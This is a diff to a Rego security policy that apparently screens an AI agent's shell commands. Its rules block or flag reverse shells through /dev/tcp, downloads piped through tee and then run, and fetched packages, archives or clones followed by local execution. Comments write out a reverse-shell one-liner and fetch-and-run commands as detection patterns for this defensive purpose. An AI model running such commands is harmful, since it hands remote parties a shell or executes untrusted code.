@@ -138,8 +138,127 @@ _executes_file(run, names) := script if {
 
 # bash -i >& /dev/tcp/host/port 0>&1, exec 3<>/dev/udp/…
 deny contains msg if {
-	some seg in segments
+	some seg in data.claude_rego.lib.shell.with_redirects
 	some r in seg.redirects
 	regex.match(`^/dev/(tcp|udp)/`, r.target)
 	msg := sprintf("Blocked: `%s` connects the shell to the network through %s (a reverse shell or raw network channel). Use a normal client such as curl, and never give a remote end a shell.", [concat(" ", seg.argv), r.target])
 }
+
+# curl … | tee run.sh && bash run.sh
+downloaded_by_tee(fetch) := {_file_name(a) |
+	some tee in shell.running({"tee"})
+	shell.upstream(fetch, tee)
+	some a in shell.operands(tee)
+}
+
+deny contains msg if {
+	some fetch in shell.running(data.claude_rego.lib.shell.downloaders)
+	names := downloaded_by_tee(fetch)
+	count(names) > 0
+	some run in segments
+	run.id > fetch.id
+	executed := _executes_file(run, names)
+	msg := sprintf("Blocked: this command downloads `%s` with `%s` and then executes it (`%s`) in one go. %s", [executed, shell.name(fetch), concat(" ", run.argv), advice])
+}
+
+# a downloaded file used by a later command (pip install p.whl, java -jar p.jar, a .so
+# loaded by inline code), or code fetched in a form whose file names are not known
+# (wget -r, an archive that is extracted, git clone DIR) followed by local code from it
+ask contains msg if {
+	some fetch in shell.running(data.claude_rego.lib.shell.downloaders)
+	names := downloaded(fetch) | downloaded_by_tee(fetch)
+	some run in segments
+	run.id > fetch.id
+	_uses_file(run, names)
+	msg := sprintf("This command downloads code with `%s` and then uses it (`%s`) in one go. %s", [shell.name(fetch), concat(" ", run.argv), advice])
+}
+
+_uses_file(run, names) if {
+	not shell.runs_any(run, {"tar", "unzip", "gunzip", "sha256sum", "shasum", "md5sum", "cat", "less", "head", "tail", "file", "ls", "jq", "gpg", "cosign"})
+	some a in run.args
+	_file_name(a) in names
+	regex.match(`\.(whl|jar|so|dylib|dll|node|egg|gem|tgz|tar\.gz|zip|deb|rpm|pkg|dmg|msi|apk|sh|py|pl|rb|js|php|bin|run|appimage)$`, lower(a))
+}
+
+_uses_file(run, names) if {
+	run.context == "interpreter_code"
+	some a in run.args
+	_file_name(a) in names
+}
+
+ask contains msg if {
+	some fetch in shell.running(data.claude_rego.lib.shell.downloaders | {"git"})
+	_fetches_unknown_files(fetch)
+	some run in segments
+	run.id > fetch.id
+	_runs_local_code(run)
+	msg := sprintf("This command fetches code (`%s`) whose files are not known in advance and then runs local code (`%s`). %s", [concat(" ", fetch.argv), concat(" ", run.argv), advice])
+}
+
+# wget -r/-m, a download that is then extracted, git clone
+_fetches_unknown_files(seg) if {
+	shell.runs(seg, "wget")
+	some a in shell.args(seg)
+	regex.match(`^(-[A-Za-z]*[rm][A-Za-z]*|--recursive|--mirror)$`, a)
+}
+
+_fetches_unknown_files(seg) if {
+	shell.runs_any(seg, data.claude_rego.lib.shell.downloaders)
+	names := downloaded(seg)
+	some ex in shell.running({"tar", "unzip", "7z", "bsdtar"})
+	ex.id > seg.id
+	some a in ex.args
+	_file_name(a) in names
+}
+
+_fetches_unknown_files(seg) if {
+	shell.runs(seg, "git")
+	some a in shell.args(seg)
+	a in {"clone"}
+}
+
+_runs_local_code(run) if {
+	count(run.argv) > 0
+	contains(run.argv[0], "/")
+	not shell.interpreter(run)
+	not startswith(run.argv[0], "/usr/")
+	not startswith(run.argv[0], "/bin/")
+}
+
+_runs_local_code(run) if {
+	shell.interpreter(run)
+	not shell.family(run) in {"source"}
+	not shell.eval_flag(run)
+	some op in shell.script_operands(run)
+	contains(op, "/")
+}
+
+_runs_local_code(run) if {
+	count(run.argv) > 0
+	shell.cwd_at(run) != input.facts.cwd
+	_executes_something(run)
+}
+
+_runs_local_code(run) if {
+	shell.runs_any(run, {"make", "gmake"})
+	some a in shell.args(run)
+	a in {"-C", "--directory"}
+}
+
+_runs_local_code(run) if {
+	shell.runs_any(run, {"pip", "pip3", "npm", "pnpm", "yarn", "gem", "cargo", "uv"})
+	some a in shell.args(run)
+	a in {"install", "i", "add"}
+	some b in shell.args(run)
+	_local_package(b)
+}
+
+_executes_something(run) if contains(run.argv[0], "/")
+
+_executes_something(run) if shell.runs_any(run, {"make", "gmake", "cmake", "ninja", "npm", "pnpm", "yarn", "pip", "pip3", "cargo", "go", "python", "python3", "sh", "bash"})
+
+_local_package(b) if b in {"-e", "--editable", ".", "--path"}
+
+_local_package(b) if startswith(b, "./")
+
+_local_package(b) if startswith(b, "/")
